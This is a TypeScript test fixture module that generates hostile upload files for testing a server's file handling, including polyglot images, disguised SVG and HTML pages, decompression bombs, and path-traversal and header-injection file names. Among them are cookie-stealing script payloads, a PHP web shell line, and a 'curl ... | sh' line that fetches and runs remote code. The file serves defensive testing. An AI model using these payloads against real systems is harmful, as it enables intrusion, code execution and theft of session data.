import { deflateSync, gzipSync } from 'node:zlib';
import {
  claimedPng,
  encodePng,
  gifScript,
  html,
  movingGif,
  pdf,
  photoWithPlace,
  plainImage,
  pngChunk,
  svg,
} from '@sidebet/server/testing/sample-files';
import sharp from 'sharp';

/** Files made to cause harm when stored, decoded or served, each generated from a seed. */

export type Chance = { int(min: number, max: number): number };

export type HostileFile = {
  readonly name: string;
  readonly content: Buffer;
  /** Must be refused under any name. */
  readonly refused: boolean;
};

/** Traces that must not appear in anything served as an image. */
export const traces = ['alert(', '<script', 'SecretCamera', 'PK\x03\x04', '41/1 52/1'];

const script = '<script>alert(document.cookie)</script>';
const text = (content: string) => Buffer.from(content);
const kept = (name: string, content: Buffer): HostileFile => ({ name, content, refused: false });
const refused = (name: string, content: Buffer): HostileFile => ({ name, content, refused: true });

type Maker = (chance: Chance) => Promise<HostileFile> | HostileFile;

const polyglots: Record<string, Maker> = {
  'GIF and script': () => refused('me.gif', gifScript),
  'GIF with a script after its end': async () =>
    kept('me.gif', Buffer.concat([await plainImage('gif'), text(`*/=1;alert(1)//${script}`)])),
  'JPEG with a page after its end': async () =>
    kept('me.jpg', Buffer.concat([await plainImage('jpeg'), html])),
  'JPEG with a page in its comment': async () => kept('me.jpg', withComment(await plainImage('jpeg'))),
  'PNG with an archive after its end': async () =>
    kept('me.png', Buffer.concat([await plainImage('png'), text(`PK\x03\x04\x14\0${script}`)])),
  'PNG with a page in a text chunk': async () =>
    kept('me.png', withPngChunk(await plainImage('png'), 'tEXt', text(`Comment\0${script}`))),
  'PDF with a script': () =>
    kept('bill.pdf', Buffer.concat([pdf, text('1 0 obj<</S/JavaScript/JS(app.alert(1))>>')])),
  'page followed by a PDF': () => refused('bill.pdf', Buffer.concat([html, pdf])),
  'archive before a picture': async () =>
    refused('me.png', Buffer.concat([text('PK\x03\x04\x14\0\0\0'), await plainImage('png')])),
  'WebP with a page after its end': async () =>
    kept('me.webp', Buffer.concat([await plainImage('webp'), html])),
};

const pages: Record<string, Maker> = {
  SVG: () => refused('me.svg', svg),
  'SVG called PNG': () =>
    refused('me.png', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
  'packed SVG': () => refused('me.svgz', gzipSync(svg)),
  'SVG in UTF-16': () =>
    refused('me.svg', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(String(svg), 'utf16le')])),
  'page called JPEG': () => refused('me.jpg', html),
  'page after a byte order mark': () => refused('me.txt', text(`\uFEFF\n\t <!DOCTYPE html>${script}`)),
  'page after a comment': () => refused('a.txt', text(`<!-- GIF89a -->${script}`)),
  XHTML: () =>
    refused(
      'a.txt',
      text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
    ),
  'page with a NUL': () => refused('a.html', text(`\0${script}`)),
  'text with a page in it': () => kept('page.html', text(`What I saw:\n${script}`)),
};

const bombs: Record<string, Maker> = {
  'PNG of 60000 × 60000 pixels': () => refused('big.png', claimedPng(60_000, 60_000)),
  'PNG just above the pixel limit': ({ int }) => refused('big.png', claimedPng(10_000, 5_001 + int(0, 500))),
  'PNG that decompresses to more than its header says': () =>
    kept('small.png', encodePng(16, 16, deflateSync(Buffer.alloc(60_000_000)))),
  'PNG with a text chunk that decompresses endlessly': async () =>
    kept(
      'text.png',
      withPngChunk(
        await plainImage('png'),
        'zTXt',
        Buffer.concat([text('a\0\0'), deflateSync(Buffer.alloc(60_000_000))]),
      ),
    ),
  'GIF with a 65535 × 65535 screen': async () => {
    const gif = Buffer.from(await plainImage('gif'));
    gif.writeUInt16LE(65_535, 6);
    gif.writeUInt16LE(65_535, 8);
    return kept('wide.gif', gif);
  },
  'GIF with thousands of frames': ({ int }) => kept('frames.gif', manyFrames(2_000 + int(0, 2_000), 600)),
  'GIF with growing frames': async ({ int }) => kept('move.gif', await movingGif(3, 100 + int(0, 100))),
  'JPEG that claims 65500 × 65500 pixels': async () => {
    const jpeg = Buffer.from(await plainImage('jpeg'));
    const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
    jpeg.writeUInt16BE(65_500, frame + 5);
    jpeg.writeUInt16BE(65_500, frame + 7);
    return refused('big.jpg', jpeg);
  },
  'PNG that exceeds the limit after re-encoding': () => kept('grows.png', coloredNoise(4_096)),
};

const others: Record<string, Maker> = {
  program: () => refused('me.jpg', Buffer.concat([text('MZ\x90\0\x03'), Buffer.alloc(200)])),
  'ELF program': () =>
    refused('me.png', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(60)])),
  archive: () => refused('a.zip', Buffer.concat([text('PK\x03\x04\x14\0\0\0\x08\0'), Buffer.alloc(60)])),
  film: () =>
    refused('a.mp4', Buffer.concat([Buffer.from([0, 0, 0, 24]), text('ftypisom'), Buffer.alloc(60)])),
  WebAssembly: () => refused('a.png', Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0])),
  TIFF: async () => refused('a.png', await plainImage('tiff')),
  'server script': () => kept('me.php.jpg', text('<?php system($_GET["c"]);')),
  'shell script': () => kept('.htaccess', text('#!/bin/sh\ncurl https://elsewhere.example | sh\n')),
  nothing: () => refused('a.txt', Buffer.alloc(0)),
  'a few random bytes': ({ int }) => ({
    name: 'a.png',
    content: Buffer.from(Array.from({ length: int(1, 4_000) }, () => int(0, 255)).with(0, 0x89)),
    refused: true,
  }),
};

const broken: Record<string, Maker> = {
  'cut JPEG': (chance) => cut('a.jpg', photoWithPlace(), chance),
  'cut PNG': (chance) => cut('a.png', plainImage('png', 200), chance),
  'cut GIF': (chance) => cut('a.gif', movingGif(3, 60), chance),
  'cut WebP': (chance) => cut('a.webp', plainImage('webp', 200), chance),
  'corrupted JPEG': (chance) => spoilt('a.jpg', photoWithPlace(), chance),
  'corrupted PNG': (chance) => spoilt('a.png', plainImage('png', 120), chance),
  'corrupted GIF': (chance) => spoilt('a.gif', movingGif(4, 60), chance),
  'corrupted WebP': (chance) => spoilt('a.webp', plainImage('webp', 120), chance),
};

const telling: Record<string, Maker> = {
  'JPEG with a location': async ({ int }) => kept('here.jpg', await photoWithPlace(600 + 2 * int(0, 50))),
  'PNG with a location': () => withPlace('png'),
  'WebP with a location': () => withPlace('webp'),
};

const hostileNames = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/cron.d/x',
  'C:\\boot.ini',
  '....//....//x.png',
  'a\0.png',
  'a.png\0.html',
  '.htaccess',
  'CON',
  'x.html',
  'x.svg',
  'x.png.php',
  'a\r\nX-Evil: 1\r\n\r\n<html>',
  '"; filename="evil.html',
  `${'n'.repeat(250)}.jpg`,
  'n'.repeat(3_000),
  '\u202Egpj.exe',
  '👩‍👩‍👧'.repeat(20),
  ' ',
  '%00%2e%2e%2f',
  '__proto__',
];
const named: Record<string, Maker> = Object.fromEntries(
  hostileNames.map((name) => [
    `name ${JSON.stringify(name.slice(0, 30))}`,
    async () => kept(name, await plainImage('jpeg')),
  ]),
);

/** Every kind of file by name. */
export const hostileKinds: Readonly<Record<string, Maker>> = {
  ...polyglots,
  ...pages,
  ...bombs,
  ...others,
  ...broken,
  ...telling,
  ...named,
};

async function cut(name: string, whole: Promise<Buffer>, { int }: Chance): Promise<HostileFile> {
  const content = await whole;
  return kept(name, content.subarray(0, int(1, content.length - 1)));
}

async function spoilt(name: string, whole: Promise<Buffer>, { int }: Chance): Promise<HostileFile> {
  const content = Buffer.from(await whole);
  for (let n = int(1, 30); n > 0; n--) content[int(4, content.length - 1)] = int(0, 255);
  return kept(name, content);
}

async function withPlace(format: 'png' | 'webp'): Promise<HostileFile> {
  const content = await sharp(await photoWithPlace())
    .toFormat(format)
    .keepExif()
    .toBuffer();
  return kept(`here.${format}`, content);
}

/** A PNG of noise in sixteen colors: half a byte per pixel, so re-encoding makes it larger. */
function coloredNoise(side: number): Buffer {
  const row = 1 + side / 2;
  const pixels = Buffer.alloc(row * side);
  let state = 12_345;
  for (let at = 0; at < pixels.length; at++) {
    // xorshift32
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    // The first byte of each row is its filter: none.
    if (at % row > 0) pixels[at] = state & 255;
  }
  const colors = Buffer.from(Array.from({ length: 48 }, (_, n) => (n * 97 + 31 * n * n) & 255));
  return encodePng(side, side, deflateSync(pixels, { level: 1 }), colors);
}

function withComment(jpeg: Buffer): Buffer {
  const comment = text(script);
  const head = Buffer.from([0xff, 0xfe, 0, comment.length + 2]);
  return Buffer.concat([jpeg.subarray(0, 2), head, comment, jpeg.subarray(2)]);
}

function withPngChunk(png: Buffer, type: string, data: Buffer): Buffer {
  // After the signature and the header.
  const at = 8 + 25;
  return Buffer.concat([png.subarray(0, at), pngChunk(type, data), png.subarray(at)]);
}

/**
 * A GIF with very many one-pixel frames on a large screen: a few bytes each, but a full screen each when decoded.
 */
function manyFrames(frames: number, side: number): Buffer {
  const screen = Buffer.from([0, 0, 0, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255]);
  screen.writeUInt16LE(side, 0);
  screen.writeUInt16LE(side, 2);
  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 0x01, 0]);
  return Buffer.concat([text('GIF89a'), screen, ...Array<Buffer>(frames).fill(frame), Buffer.from([0x3b])]);
}

/** The metadata an image contains besides its pixels; null if none. */
export async function describeImage(content: Buffer): Promise<{ readonly tells: string | null }> {
  const metadata = await sharp(content, { limitInputPixels: false })
    .metadata()
    .catch(() => null);
  if (!metadata) return { tells: 'unreadable' };
  const told = (['exif', 'xmp', 'iptc', 'orientation', 'comments'] as const).filter(
    (part) => metadata[part] !== undefined,
  );
  return { tells: told.join(', ') || null };
}
